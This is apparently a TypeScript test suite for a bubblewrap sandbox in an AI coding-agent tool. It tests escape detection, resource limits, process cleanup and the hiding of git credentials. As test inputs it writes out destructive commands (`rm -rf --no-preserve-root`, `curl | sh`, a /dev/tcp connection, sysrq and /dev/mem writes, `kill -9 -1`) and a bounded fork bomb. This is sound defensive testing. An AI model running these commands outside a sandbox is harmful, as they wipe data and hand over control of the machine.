import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import * as fs from 'node:fs';
import * as net from 'node:net';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import { openSandbox } from '../../src/adapters/process/sandbox';
import { parseCall } from '../../src/core/run/toolCalls';
import { CallId, type EscapeAttempt } from '../../src/protocol';
import { AskingRunner } from './askingRunner';
import { SandboxRig } from './sandboxRig';

const every: EscapeAttempt[] = ['outside', 'repository', 'secrets', 'network', 'processes'];
let rig: SandboxRig;

/** A program in the place of bubblewrap. */
function standIn(script: string): string {
  const bin = fs.mkdtempSync(path.join(rig.folder, 'bin-'));
  fs.writeFileSync(path.join(bin, 'bwrap'), `#!/bin/bash\n${script}\n`, { mode: 0o755 });
  return `${bin}:${process.env['PATH'] ?? ''}`;
}

const real = execFileSync('which', ['bwrap'], { encoding: 'utf8' }).trim();

/** Hands everything to the real program, but for what `change` makes of the arguments. */
const passingOn = (change: string) => `args=()\nfor a in "$@"; do ${change}; done\nexec ${real} "\${args[@]}"`;

describe('the self-test of the sandbox', () => {
  before(() => (rig = new SandboxRig('self-test')));
  after(() => rig.dispose());

  it('says what was tried and which limits hold', async () => {
    const { report } = await openSandbox(rig.sandbox);
    assert.deepEqual(report, {
      kind: 'bubblewrap',
      proved: every,
      limits: { processes: 4096, memoryMb: 8192, fileMb: 10_240 },
    });
  });

  it('fails closed where the program runs everything as it is, says each way out, and leaves no trace', async () => {
    const env = { ...rig.sandbox.env, PATH: standIn('while [ "$1" != -- ]; do shift; done; shift; exec "$@"') };
    const before = fs.readdirSync(path.dirname(rig.worktree)).concat(fs.readdirSync(rig.at('repo', '.git')));
    const sandbox = await openSandbox({ ...rig.sandbox, env });
    assert.deepEqual(sandbox.wrap(['true'], false), ['true']);
    assert.deepEqual(sandbox.report, {
      kind: 'none',
      reason:
        'The sandbox does not hold here: a command that was run in it as a test wrote outside the worktree, could change the git data of the repository, saw what is hidden, reached the network, saw the processes of this machine.',
      fix: 'Bring bubblewrap up to date (sudo apt-get install --only-upgrade bubblewrap), and look at what is in its place on the PATH.',
      failed: every,
    });
    const after = fs.readdirSync(path.dirname(rig.worktree)).concat(fs.readdirSync(rig.at('repo', '.git')));
    assert.deepEqual(after, before);
  });

  const holes: Record<EscapeAttempt, string> = {
    outside: passingOn('[ "$a" = --ro-bind ] && [ ${#args[@]} -eq 0 ] && a=--bind; args+=("$a")'),
    repository: passingOn('[ "$a" = --ro-bind ] && a=--bind; args+=("$a")'),
    secrets: passingOn(
      '[ "$a" = --tmpfs ] && a=--dir; [ "$a" = --size ] && skip=2; [ $((skip--)) -gt 0 ] || args+=("$a")',
    ),
    network: passingOn('args+=("$a"); [ "$a" = --unshare-all ] && args+=(--share-net)'),
    processes: passingOn('if [ "$a" = --unshare-all ]; then args+=(--unshare-net); else args+=("$a"); fi'),
  };
  for (const [attempt, script] of Object.entries(holes)) {
    it(`finds a sandbox that leaks in one way only: ${attempt}`, async () => {
      const env = { ...rig.sandbox.env, PATH: standIn(script) };
      const { report } = await openSandbox({ ...rig.sandbox, env });
      assert.equal(report.kind, 'none');
      assert.ok(report.failed?.includes(attempt as EscapeAttempt), JSON.stringify(report));
    });
  }

  it('is made once for tasks that hide the same, and again after a failure', async () => {
    const count = rig.at('count');
    const env = {
      ...rig.sandbox.env,
      PATH: standIn(`[ -e ${count} ] || { : >${count}; exit 3; }\necho >>${count}; exec ${real} "$@"`),
    };
    assert.equal((await openSandbox({ ...rig.sandbox, env })).report.kind, 'none');
    const reports = await Promise.all([1, 2, 3].map(() => openSandbox({ ...rig.sandbox, env })));
    assert.deepEqual(
      reports.map(({ report }) => report.kind),
      ['bubblewrap', 'bubblewrap', 'bubblewrap'],
    );
    assert.equal(fs.readFileSync(count, 'utf8'), '\n');
  });

  it('does without what an older bubblewrap does not know', async () => {
    const old = 'for a in "$@"; do [ "$a" = --size ] && { echo "bwrap: Unknown option --size" >&2; exit 1; }; done';
    const env = { ...rig.sandbox.env, PATH: standIn(`${old}\nexec ${real} "$@"`) };
    const sandbox = await openSandbox({ ...rig.sandbox, env });
    assert.deepEqual([sandbox.report.kind, sandbox.wrap(['true'], false).includes('--size')], ['bubblewrap', false]);
  });
});

describe('what commands use up', () => {
  before(() => (rig = new SandboxRig('limits')));
  afterEach(() => assert.deepEqual(rig.survivors(), []));
  after(() => rig.dispose());

  it('C11: a fork bomb is ended at the limit of processes, and nothing of it is left', async () => {
    // Bounded, so that it does no harm where the defence is taken out.
    const bomb = 'n=0; while [ $n -lt 400 ]; do sleep 30 & n=$((n+1)); done; wait; echo survived';
    const result = await rig.run(bomb, { limits: { processes: 64 } });
    assert.doesNotMatch(result.output, /survived/);
    if (process.getuid?.() === 0) {
      assert.deepEqual(result.ended, 'was ended because it ran more than 64 processes at once');
    } else {
      assert.match(result.output, /Resource temporarily unavailable/);
    }
  });

  it('C11: a command that takes more memory than it may is ended and says so, also when its children take it', async () => {
    const child =
      'const held = []; for (let i = 0; i < 12; i += 1) held.push(Buffer.alloc(10 << 20, 1)); setTimeout(() => held, 60_000)';
    const result = await rig.run(`for i in 1 2 3; do node -e '${child}' & done; wait; echo survived`, {
      limits: { memoryMb: 300 },
    });
    assert.deepEqual(result, {
      exitCode: null,
      ended: 'was ended because it used more than 300 MB of memory',
      durationMs: 0,
      output: '',
    });
  });

  it('C11: a file ends at the longest that may be written', async () => {
    const result = await rig.run('yes > big; stat -c %s big', { limits: { fileMb: 3 } });
    assert.match(result.output, /\b3145728\n$/);
  });

  it('C11: temporary folders hold no more than memory may', async () => {
    const { exitCode, output } = await rig.run('head -c 100000000 /dev/zero > /tmp/big', { limits: { memoryMb: 64 } });
    assert.deepEqual([exitCode, output.includes('No space left on device')], [1, true]);
  });

  it('C11: endless output is kept in two megabytes, and Stop ends it', async () => {
    const controller = new AbortController();
    const onOutput = () => fs.statSync(rig.at('out.log')).size >= 1024 * 1024 && controller.abort(new Error('stop'));
    const commands = await rig.open();
    const result = await rig.runIn(commands, 'yes 0123456789', {
      signal: controller.signal,
      onOutput: () => void onOutput(),
    });
    assert.deepEqual([result.exitCode, result.ended], [null, 'was stopped']);
    assert.ok(fs.statSync(rig.at('out.log')).size < 2_200_000);
  });

  for (const [name, command] of [
    ['an endless loop that ignores SIGTERM', 'trap "" TERM; echo begun; while :; do :; done'],
    ['what left its group with setsid', 'setsid sh -c "trap \'\' TERM; sleep 600" & echo begun; wait'],
    [
      'grandchildren whose parent never waits',
      '(sh -c "sleep 600 & sleep 600 & exec sleep 600" &) ; echo begun; sleep 600',
    ],
    ['a daemon that was made by forking twice', '(setsid sh -c "(sleep 600 &)" &); echo begun; sleep 600'],
  ] as const) {
    it(`C11: Stop ends ${name}`, async () => {
      const controller = new AbortController();
      const result = await rig.run(command, {
        signal: controller.signal,
        onOutput: () => controller.abort(new Error('stop')),
      });
      assert.deepEqual(result, { exitCode: null, ended: 'was stopped', durationMs: 0, output: 'begun\n' });
    });
  }

  it('C11: what a command leaves in the background ends with it', async () => {
    const { exitCode } = await rig.run('setsid nohup sleep 600 >/dev/null 2>&1 & disown; sleep 601 & exit 0');
    assert.equal(exitCode, 0);
  });

  it('C11: everything ends with the process that runs the agents, however that ends', async () => {
    const sandbox = await openSandbox(rig.sandbox);
    const argv = JSON.stringify(
      sandbox.wrap(['/bin/sh', '-c', `export MARK=${rig.taskId}; sleep 600 & exec sleep 600`], false),
    );
    const script = `const [p, ...a] = ${argv}; require('node:child_process').spawn(p, a, { detached: true, stdio: 'ignore' }); setInterval(() => 0, 1e6)`;
    const runner = spawn(process.execPath, ['-e', script], { stdio: 'ignore' });
    await until(() => rig.survivors().length >= 1);
    runner.kill('SIGKILL');
    await once(runner, 'exit');
    await until(() => rig.survivors().length === 0);
  });
});

describe('commands in the sandbox', () => {
  before(() => (rig = new SandboxRig('commands')));
  after(() => rig.dispose());

  it('C12: what asks at the terminal finds none and ends', async () => {
    const asks =
      'git rebase -i HEAD; read -r answer; echo "read $?"; cat; { : </dev/tty; } 2>&1 || echo "no terminal"; $EDITOR x; echo end';
    const { exitCode, output } = await rig.run(asks);
    assert.equal(exitCode, 0);
    assert.match(output, /read 1\n[^]*no terminal\nend\n$/);
  });

  it('C12: a command that waits for ever is ended by its time and says so', async () => {
    const commands = await rig.open();
    const result = await rig.runIn(commands, 'echo "Password:"; sleep 600', { timeoutMs: 500 });
    assert.deepEqual(result, { exitCode: null, ended: 'was ended after 1 s', durationMs: 0, output: 'Password:\n' });
  });

  it('C13: a server in the sandbox can be reached from nowhere else', async () => {
    const port = await freePort();
    const server = `require('node:net').createServer(s => s.end('inside')).listen(${port}, '0.0.0.0', () => console.log('listening'))`;
    const controller = new AbortController();
    let outcome: unknown;
    const onOutput = () =>
      void reach(port).then((answer) => {
        outcome = answer;
        controller.abort(new Error('stop'));
      });
    const result = await rig.run(`node -e "${server}"`, { signal: controller.signal, onOutput });
    assert.deepEqual([result.output, outcome], ['listening\n', 'ECONNREFUSED']);
  });

  it('C14: commands that destroy a machine do nothing to it', async () => {
    // What would do harm to the machine itself is not even tried where the sandbox has not proved itself.
    const commands = await rig.open();
    assert.deepEqual(commands.report.kind === 'bubblewrap' ? commands.report.proved : [], every);
    fs.writeFileSync(rig.at('home', 'kept'), 'kept');
    const bystander = spawn('sleep', ['600'], { stdio: 'ignore' });
    await once(bystander, 'spawn');
    const result = await rig.runIn(
      commands,
      [
        `rm -rf --no-preserve-root '${rig.home}' '${rig.repo}' /etc/passwd 2>/dev/null`,
        'curl -s http://127.0.0.1/ | sh; bash -c "exec 3<>/dev/tcp/127.0.0.1/22"',
        `kill -9 ${bystander.pid ?? 0}`,
        ': >/dev/mem; echo b >/proc/sysrq-trigger; find /dev -type b | wc -l; kill -9 -1',
      ].join('; '),
    );
    assert.match(result.output, /No such process\n[^]*\n0\n/);
    assert.equal(bystander.exitCode ?? bystander.signalCode, null);
    bystander.kill();
    assert.equal(fs.readFileSync(rig.at('home', 'kept'), 'utf8'), 'kept');
    assert.deepEqual(fs.readdirSync(rig.at('repo')), ['.git']);
    assert.equal(rig.git('log', '--format=%s'), 'first\n');
    assert.ok(fs.existsSync('/etc/passwd'));
  });

  it('C16: no argument of a call chooses the sandbox, the folder or the approval', () => {
    for (const extra of [
      { disableSandbox: true },
      { sandbox: 'off' },
      { approved: true },
      { cwd: '/' },
      { network: true },
    ]) {
      const input = JSON.stringify({ command: 'id', ...extra });
      const parsed = parseCall({ callId: CallId.parse('c1'), tool: 'shell', input });
      assert.equal(parsed.kind, 'invalid', input);
    }
    assert.equal(parseCall({ callId: CallId.parse('c1'), tool: 'shell', input: '{"command":"id"}' }).kind, 'use');
  });

  it('X03: no name can be looked up, and no packet leaves', async () => {
    const lookup = `node -e "require('node:dns').lookup('secret.example.com', e => console.log(e?.code ?? 'found'))"`;
    const udp = `node -e "require('node:dgram').createSocket('udp4').send('secret', 53, '192.0.2.1', e => { console.log(e?.code ?? 'sent'); process.exit() })"`;
    const { output } = await rig.run(
      `${lookup}; ${udp}; getent hosts example.com || echo none; ping -c1 -W1 127.0.0.1 >/dev/null 2>&1; echo end`,
    );
    assert.match(output, /^(EAI_AGAIN|ENOTFOUND)\nENETUNREACH\nnone\nend\n$/);
  });

  it('leaves neither a way to more rights nor the environment of the editor', async () => {
    const { output } = await rig.run(
      'grep -E "^(CapEff|CapBnd|NoNewPrivs)" /proc/self/status; env | grep -c -i -E "token|secret|SSH_AUTH_SOCK"; unshare -m true 2>&1 | tail -1',
    );
    assert.match(output, /CapEff:\t0+\n[^]*NoNewPrivs:\t1\n0\n/);
  });
});

describe('commands whose code the agent has changed', () => {
  const turns = [
    { calls: [{ tool: 'shell', input: { command: 'npm test' } }] },
    { calls: [{ tool: 'write_file', input: { path: 'test.js', content: "console.log('changed')" } }] },
    { calls: [{ tool: 'shell', input: { command: 'npm test' } }] },
    {},
  ];
  const files = { 'package.json': '{"scripts":{"test":"node test.js"}}', 'test.js': "console.log('first')" };

  it('C10: run unasked in the sandbox, where they can do no harm', async () => {
    const runner = await AskingRunner.open(files, turns, { isolation: 'sandbox' });
    runner.start();
    await runner.finished();
    const shown = runner.of('tool.result').map(({ outcome, text }) => [outcome, /changed|first/.exec(text)?.[0]]);
    assert.deepEqual([runner.requests.length, shown[0], shown[2]], [0, ['ok', 'first'], ['ok', 'changed']]);
    await runner.runner.stop();
    runner.prepared.repo.dispose();
  });

  it('C10: ask again without one, though the same command was allowed before', async () => {
    const runner = await AskingRunner.open(files, turns);
    runner.start();
    runner.answer(await runner.asked(1), { kind: 'allow' });
    runner.answer(await runner.asked(2), { kind: 'deny' });
    await runner.finished();
    assert.deepEqual(
      runner.of('tool.result').map(({ outcome }) => outcome),
      ['ok', 'ok', 'denied'],
    );
    await runner.runner.stop();
    runner.prepared.repo.dispose();
  });
});

async function until(holds: () => boolean): Promise<void> {
  while (!holds()) {
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

async function freePort(): Promise<number> {
  const server = net.createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  server.close();
  await once(server, 'close');
  return port;
}

/** What came back, or the code of the error. */
function reach(port: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect(port, '127.0.0.1');
    socket.once('data', (bytes) => resolve(bytes.toString()));
    socket.once('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'));
  });
}

describe('a token in the configuration of git', () => {
  before(() => (rig = new SandboxRig('tokens')));
  after(() => rig.dispose());

  it('G10: is found by no command in the sandbox, in no file and no variable, and git works with what is left', async () => {
    rig.git('remote', 'add', 'origin', 'https://user:canary-remote@git.example/x.git');
    rig.git('config', 'http.https://git.example/.extraheader', 'AUTHORIZATION: basic canary-header');
    const module = rig.at('repo', '.git', 'modules', 'libs', 'a');
    fs.mkdirSync(module, { recursive: true });
    fs.writeFileSync(path.join(module, 'HEAD'), 'ref: refs/heads/main\n');
    fs.writeFileSync(path.join(module, 'config'), '[remote "origin"]\n\turl = https://canary-module@git.example/a\n');
    fs.writeFileSync(rig.at('home', '.gitconfig'), '[url "https://canary-home@git.example/"]\n\tinsteadOf = x:\n');
    const before = fs.readFileSync(rig.at('repo', '.git', 'config'), 'utf8');
    const commands = await rig.open();
    const look = async () =>
      (
        await rig.runIn(
          commands,
          `git remote get-url later || git remote get-url origin; grep -rao canary-[a-z]* ${rig.folder}; env | grep canary`,
        )
      ).output;
    assert.equal(await look(), "error: No such remote 'later'\nhttps://git.example/x.git\n");
    rig.git('remote', 'add', 'later', 'https://canary-later@git.example/y.git');
    assert.equal(await look(), 'https://git.example/y.git\n');
    rig.git('remote', 'remove', 'later');
    const late = rig.at('repo', '.git', 'modules', 'late');
    fs.mkdirSync(late);
    fs.writeFileSync(path.join(late, 'HEAD'), 'ref: refs/heads/main\n');
    fs.writeFileSync(path.join(late, 'config'), '[remote "origin"]\n\turl = https://canary-late@git.example/a\n');
    assert.equal(await look(), "error: No such remote 'later'\nhttps://git.example/x.git\n");
    assert.equal(fs.readFileSync(rig.at('repo', '.git', 'config'), 'utf8'), before);
  });

  it('G10: can’t be had by a change of the configuration either', async () => {
    const { output } = await rig.run(
      'd=$(git rev-parse --git-common-dir); (echo x > $d/config; mv $d/config $d/old; rm $d/config; git config a.b c) 2>/dev/null; grep -c canary $d/config',
    );
    assert.equal(output, '0\n');
    assert.match(fs.readFileSync(rig.at('repo', '.git', 'config'), 'utf8'), /canary-remote/);
  });
});
